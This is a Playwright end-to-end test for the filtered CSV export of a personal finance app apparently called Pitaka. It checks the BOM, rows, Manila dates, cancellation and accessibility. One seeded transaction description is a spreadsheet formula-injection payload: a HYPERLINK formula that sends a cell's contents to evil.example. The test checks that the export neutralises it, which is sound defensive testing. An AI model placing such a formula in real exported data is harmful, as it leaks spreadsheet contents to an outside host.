// Issue 24, "Done when": export with a filter and read the file back. A user seeded over REST with
// ordinary, transfer, paluwagan, debt, recurring and imported transactions filters /transactions
// (Expense, Wallet, Last 7 Days), exports, and the downloaded file is read back with Papa Parse:
// the BOM, the header, exactly the filtered rows newest first, signed amounts, Manila dates and
// times (also from a device in Los Angeles) and neutralised formulas. A cancelled export, held
// mid-read, downloads nothing. At 1280 and 390 px, axe clean, nothing wider than the screen.
import { expect, test, type APIRequestContext, type Download, type Page } from '@playwright/test';
import { parse } from 'papaparse';
import { readFile } from 'node:fs/promises';
import { expectNoSeriousA11yViolations } from '../support/axe';
import { seedTransfer, seedWalletAnd, writeDocument } from '../support/ledger';
import { manilaTime as at } from '../support/manila-time';
import type { Plain } from '../support/rest-values';
import { signIn, toast } from '../support/session';
import { describeOnPhone, expectNoWiderThanScreen } from '../support/layout';

// Friday 27 November 2026, 00:30 in Manila (still the 26th in UTC and in Los Angeles): "Last 7
// Days" starts at 00:30 on 20 November.
const NOW = new Date('2026-11-27T00:30:00+08:00');
const CREATED = at('2026-11-01T09:00:00');

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Refund")';

/** Wallet and GCash, and one transaction of every kind, written as the app would have. */
async function seedHistory(request: APIRequestContext) {
  const household = await seedWalletAnd(request, 'export', 50_000, { name: 'GCash', type: 'ewallet', balance: 5_000 });
  const { user, wallet, second: gcash } = household;
  const write = (id: string, date: string, fields: Record<string, Plain>) =>
    writeDocument(request, `users/${user.uid}/transactions/${id}`, {
      type: 'expense',
      category: 'Food',
      accountId: wallet.id,
      accountName: wallet.name,
      date: at(date),
      createdAt: CREATED,
      ...fields,
    });
  await write('jollibee', '2026-11-26T23:59:00', { amount: 250, description: 'Jollibee, "Chickenjoy" — ñ' });
  await write('hostile', '2026-11-26T00:00:00', { amount: 1234.5, description: HYPERLINK, category: 'Shopping' });
  await seedTransfer(request, user.uid, {
    id: 'tr1',
    from: wallet,
    to: gcash,
    amount: 1000,
    fee: 15,
    date: at('2026-11-24T10:15:00'),
    createdAt: CREATED,
  });
  // Booked by a paluwagan week, a recurring bill and a debt payment: each linked to its row.
  for (const [id, date, amount, description, category, kind] of [
    ['week', '2026-11-23T08:00:00', 500, 'Office Paluwagan: week 3', 'Paluwagan', 'paluwagan-week'],
    ['meralco', '2026-11-21T07:00:00', 2500, 'Meralco', 'Utilities', 'recurring'],
    ['debt', '2026-11-20T09:00:00', 1000, 'Laptop loan', 'Debt', 'debt-payment'],
  ] as const) {
    const source = { kind, id: `${kind}-1`, index: 0, reversal: false };
    await write(id, date, { amount, description, category, source });
  }
  await write('grab', '2026-11-22T19:45:00', {
    amount: 320.75,
    description: 'GRAB*FOOD Piñas',
    import: { id: 'import-1', row: 4, check: 'k3x9' },
  });
  // Left out by the filter: an income, another account, and a day before the last 7.
  await write('salary', '2026-11-25T12:00:00', { type: 'income', amount: 15000, description: 'Sweldo' });
  await write('load', '2026-11-25T12:00:00', { amount: 100, description: 'Load', accountId: gcash.id });
  await write('old', '2026-11-19T23:00:00', { amount: 80, description: 'Taho' });
  return user;
}

const EXPECTED_ROWS = [
  ['Date', 'Time', 'Type', 'Amount', 'Currency', 'Account', 'Category', 'Description', 'Source'],
  ['2026-11-26', '23:59', 'Expense', '-250.00', 'PHP', 'Wallet', 'Food', 'Jollibee, "Chickenjoy" — ñ', ''],
  ['2026-11-26', '00:00', 'Expense', '-1234.50', 'PHP', 'Wallet', 'Shopping', `'${HYPERLINK}`, ''],
  ['2026-11-24', '10:15', 'Expense', '-1000.00', 'PHP', 'Wallet', 'Transfer', 'Transfer to GCash', 'Transfer'],
  ['2026-11-24', '10:15', 'Expense', '-15.00', 'PHP', 'Wallet', 'Fees', 'Transfer fee (to GCash)', 'Transfer'],
  ['2026-11-23', '08:00', 'Expense', '-500.00', 'PHP', 'Wallet', 'Paluwagan', 'Office Paluwagan: week 3', 'Paluwagan'],
  ['2026-11-22', '19:45', 'Expense', '-320.75', 'PHP', 'Wallet', 'Food', 'GRAB*FOOD Piñas', 'Import'],
  ['2026-11-21', '07:00', 'Expense', '-2500.00', 'PHP', 'Wallet', 'Utilities', 'Meralco', 'Recurring'],
  ['2026-11-20', '09:00', 'Expense', '-1000.00', 'PHP', 'Wallet', 'Debt', 'Laptop loan', 'Debt'],
];
const FILE_NAME = 'pitaka-transactions-expense-wallet-last-7-days-2026-11-27.csv';

const rows = (page: Page) => page.getByRole('list', { name: 'Transactions' }).getByRole('listitem');
const progress = (page: Page) => page.getByRole('region', { name: 'Exporting transactions' });

async function openFiltered(page: Page, request: APIRequestContext) {
  await page.clock.install({ time: NOW });
  const user = await seedHistory(request);
  await signIn(page, user.email, user.password);
  await page.goto('/transactions');
  await expect(rows(page).first()).toBeVisible();
  await page.getByLabel('Transaction Type').selectOption('Expense');
  await page.getByLabel('Account', { exact: true }).selectOption('Wallet');
  await page.getByLabel('Date Range').selectOption('Last 7 Days');
  await page.getByRole('button', { name: 'Apply Filters' }).click();
  await expect(rows(page)).toHaveCount(EXPECTED_ROWS.length - 1);
}

/** The export file, checked byte for byte at its start and read back with Papa Parse. */
async function expectExportedFile(download: Download) {
  expect(download.suggestedFilename()).toBe(FILE_NAME);
  const bytes = await readFile(await download.path());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.subarray(3).toString('utf8');
  expect(text.split('\r\n')).toHaveLength(EXPECTED_ROWS.length);
  const parsed = parse<string[]>(text, { newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data).toEqual(EXPECTED_ROWS);
}

async function exportNow(page: Page): Promise<Download> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  return download;
}

/** Holds the export's reads (pages of 500: a limit of 501; the URL ends in `:runQuery?key=…`) until `release()`. */
async function holdExportReads(page: Page) {
  let release!: () => void;
  const released = new Promise<void>((resolve) => (release = resolve));
  await page.route(/:runQuery(\?|$)/, async (route) => {
    const limit = (route.request().postDataJSON() as { structuredQuery?: { limit?: unknown } } | null)?.structuredQuery
      ?.limit;
    if (JSON.stringify(limit ?? null).includes('501')) await released;
    await route.continue();
  });
  return release;
}

test('the filtered transactions exported as CSV and read back; a cancelled export downloads nothing', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  await openFiltered(page, request);
  const downloads: Download[] = [];
  page.on('download', (d) => downloads.push(d));

  // Cancelled while a page is being read: the progress goes, nothing downloads, the list stays.
  const release = await holdExportReads(page);
  await page.getByRole('button', { name: 'Export CSV' }).click();
  await expect(progress(page)).toBeVisible();
  await expect(page.getByRole('progressbar', { name: 'Transactions read' })).toHaveAttribute(
    'aria-valuetext',
    `0%, 0 of ${EXPECTED_ROWS.length - 1} transactions`,
  );
  await expectNoSeriousA11yViolations(page, '/transactions exporting');
  await page.getByRole('button', { name: 'Cancel export' }).click();
  await expect(progress(page)).toHaveCount(0);
  release();
  await page.unrouteAll({ behavior: 'wait' });
  await page.waitForTimeout(1000);
  expect(downloads).toHaveLength(0);
  await expect(rows(page)).toHaveCount(EXPECTED_ROWS.length - 1);

  await expectExportedFile(await exportNow(page));
  await expect(toast(page, `Exported ${EXPECTED_ROWS.length - 1} transactions`)).toBeVisible();
  await expectNoSeriousA11yViolations(page, '/transactions after an export');
});

describeOnPhone('on a phone in another zone', { timezoneId: 'America/Los_Angeles' }, () => {
  test('the same file at 390 px, Manila days and times, nothing wider than the screen', async ({ page, request }) => {
    test.setTimeout(90_000);
    await openFiltered(page, request);
    await expectNoWiderThanScreen(page);

    const release = await holdExportReads(page);
    await page.getByRole('button', { name: 'Export CSV' }).click();
    await expect(progress(page)).toBeVisible();
    await expectNoWiderThanScreen(page);
    await expectNoSeriousA11yViolations(page, '/transactions exporting at 390 px');
    const [download] = await Promise.all([page.waitForEvent('download'), Promise.resolve(release())]);
    await expectExportedFile(download);
    await expect(progress(page)).toHaveCount(0);
    await expectNoWiderThanScreen(page);
  });
});
